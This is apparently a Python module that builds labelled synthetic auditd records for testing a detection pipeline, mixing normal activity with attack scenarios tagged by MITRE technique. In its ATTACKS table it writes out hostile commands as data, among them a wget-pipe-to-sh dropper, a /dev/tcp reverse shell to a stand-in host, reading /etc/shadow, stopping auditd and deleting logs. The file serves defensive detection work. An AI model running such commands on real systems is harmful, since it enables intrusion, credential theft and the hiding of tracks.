"""Labelled scenarios for evaluation: a day on one host, as raw audit lines.

A scenario is a script with a step a line: the minute of the day, who, and either `login` with an address and its
outcome or a program with its arguments; in brackets what else the kernel reports (a call other than execve, a path, a
peer, an audit key). Every step becomes the records that auditd writes for it. A day has 100 records, of which 35 are
events of their own (13 normal, 22 malicious); the rules name the expected technique of 16 of the 22, with any model.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from typing import NamedTuple

import pandas as pd
from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

DAY = datetime(2025, 3, 3, tzinfo=timezone.utc)
HOST, ADDRESS = "edge-07", "10.20.0.7"
#: Account -> user id and login id (-1: no login).
ACCOUNTS = {"mira": (1004, 1004), "mira+root": (0, 1004), "batch": (0, -1), "root": (0, 0)}
NORMAL = {
    "compile_and_test": """
        551 mira /usr/bin/make -j8 all
        553 mira /usr/bin/gcc -O2 -c parser.c
        562 mira /usr/bin/python3 -m pytest -q tests
        575 mira /usr/bin/less build.log
    """,
    "package_update": """
        700 mira+root /usr/bin/sudo dnf upgrade -y [key=privileged_commands]
        700.2 mira+root /usr/bin/dnf upgrade -y
    """,
    "night_backup": """
        95 batch /usr/bin/rsync -a /srv/data /mnt/backup
        97 batch /usr/bin/gzip -9 /mnt/backup/index
    """,
    "log_reading": "840 mira /usr/bin/journalctl -u web --since today",
    "console_logins": """
        545 mira login USER_AUTH 10.20.0.31 success
        545.1 mira login USER_LOGIN 10.20.0.31 success
        780 mira login USER_AUTH 10.20.0.31 success
        780.1 mira login USER_LOGIN 10.20.0.31 success
    """,
}
ATTACKS = {
    "password_guessing": ("T1110", "\n".join(f"{1320 + k / 4} root login USER_AUTH 198.51.100.23 {'success' if k == 10 else 'failed'}" for k in range(11))),
    "sudo_to_shell": ("T1548.003", "1334 mira+root /usr/bin/sudo bash [key=privileged_commands]\n1334.1 mira+root /usr/bin/sh -c id"),
    "subnet_scan": ("T1046", "1341 mira /usr/bin/nmap -Pn 10.20.0.0/24 [peer=10.20.0.9:22]"),
    "dropper": ("T1105", "1347 mira /usr/bin/wget -qO- http://198.51.100.40/i | sh [peer=198.51.100.40:80]"),
    "call_home": ("T1059.004", "1352 mira /usr/bin/sh -c sh -i >& /dev/tcp/198.51.100.40/9001 0>&1 [peer=198.51.100.40:9001]"),
    "password_file": ("T1003.008", "1358 mira+root /usr/bin/head /etc/shadow [call=openat path=/etc/shadow key=shadow]"),
    "audit_off": ("T1562.001", "1363 mira+root /usr/bin/systemctl stop auditd"),
    "timed_job": ("T1053.003", "1370 mira /usr/bin/crontab /tmp/jobs"),
    "second_account": ("T1136.001", "1376 mira+root /usr/sbin/adduser helper"),
    "group_change": ("T1098", "1380 mira+root /usr/sbin/usermod -aG wheel helper"),
    "log_removal": ("T1070.002", "1391 mira+root /usr/bin/rm /var/log/secure [call=unlinkat path=/var/log/secure]"),
}


class Step(NamedTuple):
    minute: float
    account: str
    program: str
    arguments: list[str]
    more: dict[str, str]


def steps(script: str) -> list[Step]:
    out = []
    for line in filter(None, map(str.strip, script.splitlines())):
        body, _, more = line.removesuffix("]").partition(" [")
        minute, account, program, *arguments = body.split(" ")
        out.append(Step(float(minute), account, program, arguments, dict(x.split("=", 1) for x in more.split())))
    return out


def quoted(word: str) -> str:
    """A value as auditd writes it: quoted, or in hex where it has other than plain characters."""
    return f'"{word}"' if re.fullmatch(r"[\w./:+-]+", word) else word.encode().hex().upper()


def records(step: Step) -> list[tuple[str, str]]:
    """(record type, fields as text) of a step."""
    uid, login = ACCOUNTS[step.account]
    if step.program == "login":
        kind, peer, outcome = step.arguments
        return [(kind, f"pid=811 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"{step.account}\" exe=\"/usr/sbin/sshd\" hostname={peer} addr={peer} terminal=ssh res={outcome}'")]
    words = [step.program.rsplit("/", 1)[1], *step.arguments]
    name = lambda i: next((a for a, (u, _) in ACCOUNTS.items() if u == i and "+" not in a and a != "batch"), "unset")
    enriched = f"\x1dSYSCALL={step.more.get('call', 'execve')} AUID=\"{name(login)}\" UID=\"{name(uid)}\""
    out = [("SYSCALL", f"arch=c000003e success=yes exit=0 ppid=790 pid=812 auid={login % 2**32} uid={uid} euid={uid} tty={'pts2' if login >= 0 else '(none)'} comm=\"{words[0]}\" exe=\"{step.program}\" key=\"{step.more.get('key', '(null)')}\"{enriched}")]
    out.append(("EXECVE", " ".join([f"argc={len(words)}", *(f"a{k}={quoted(w)}" for k, w in enumerate(words))])))
    out.append(("PROCTITLE", "proctitle=" + " ".join(words).encode().hex().upper()))
    out.append(("CWD", 'cwd="/home/mira"'))
    if path := step.more.get("path"):
        out.append(("PATH", f'item=0 name="{path}"'))
    if peer := step.more.get("peer"):
        ip, port = peer.split(":")
        out.append(("SOCKADDR", f"saddr=0200{int(port):04X}{bytes(map(int, ip.split('.'))).hex().upper()}0000000000000000"))
    return out


def generate(days: int = 1, first: datetime = DAY, event: int = 7000) -> list[tuple[datetime, str, str, str | None]]:
    """(time, line, scenario, expected technique) of every record; events are numbered from `event` on."""
    scripts = [(name, None, text) for name, text in NORMAL.items()] + [(name, technique, text) for name, (technique, text) in ATTACKS.items()]
    out = []
    for day in range(days):
        for name, technique, text in scripts:
            for step in steps(text):
                event += 1
                at = first + timedelta(days=day, minutes=step.minute)
                out += [(at, f"type={kind} msg=audit({at.timestamp():.3f}:{event}): {fields}", name, technique) for kind, fields in records(step)]
    return out


ROW = "ordinal long, at timestamp_ntz, line string, scenario string, expect_technique string, host string"
#: Ordinals and event numbers of a host's day.
STRIDE = 1000


def labelled(spark: SparkSession, days: int = 1) -> tuple[DataFrame, DataFrame]:
    """(raw records, labels by ordinal)."""
    made = [(k, at.replace(tzinfo=None), line, name, technique, HOST) for k, (at, line, name, technique) in enumerate(generate(days))]
    return as_records(spark.createDataFrame(made, ROW))


def labelled_hosts(hosts: DataFrame, days: int = 1) -> tuple[DataFrame, DataFrame]:
    """The scenarios on every host of a table (number, host): (raw records, labels by ordinal). Each task makes those of its
    hosts; the numbers keep events and ordinals of hosts apart."""

    def make(batches: Iterator[pd.DataFrame]) -> Iterator[pd.DataFrame]:
        for b in batches:
            for number, host in zip(b["number"], b["host"], strict=True):
                base = int(number) * STRIDE * days
                made = [(base + k, at.replace(tzinfo=None), line, name, technique, host) for k, (at, line, name, technique) in enumerate(generate(days, event=7000 + base))]
                yield pd.DataFrame(made, columns=[c.split()[0] for c in ROW.split(", ")])

    return as_records(hosts.select(F.col("number").cast("long").alias("number"), "host").mapInPandas(make, ROW))


def as_records(rows: DataFrame) -> tuple[DataFrame, DataFrame]:
    """(raw records, labels by ordinal) of rows of ROW."""
    attack = F.col("expect_technique").isNotNull()
    labels = rows.select("ordinal", "scenario", F.when(attack, "malicious").otherwise("normal").alias("label"), attack.alias("expect_alert"), "expect_technique")
    none = {c: F.lit(None).cast("string").alias(c) for c in ("original", "module", "action", "process_name", "executable", "pid", "ppid", "user_id", "effective_id", "audit_id")}
    raw = rows.select(
        "ordinal", F.col("at").cast("timestamp").alias("ts"), F.col("line").alias("message"), none["original"], none["module"], none["action"], F.lit(None).cast("array<string>").alias("category"),
        F.col("host").alias("hostname"), F.col("host").alias("host_name"), F.array(F.lit(ADDRESS)).alias("host_ip"), *(none[c] for c in list(none)[3:]), F.lit(None).cast("map<string,string>").alias("log"),
    )
    return raw, labels
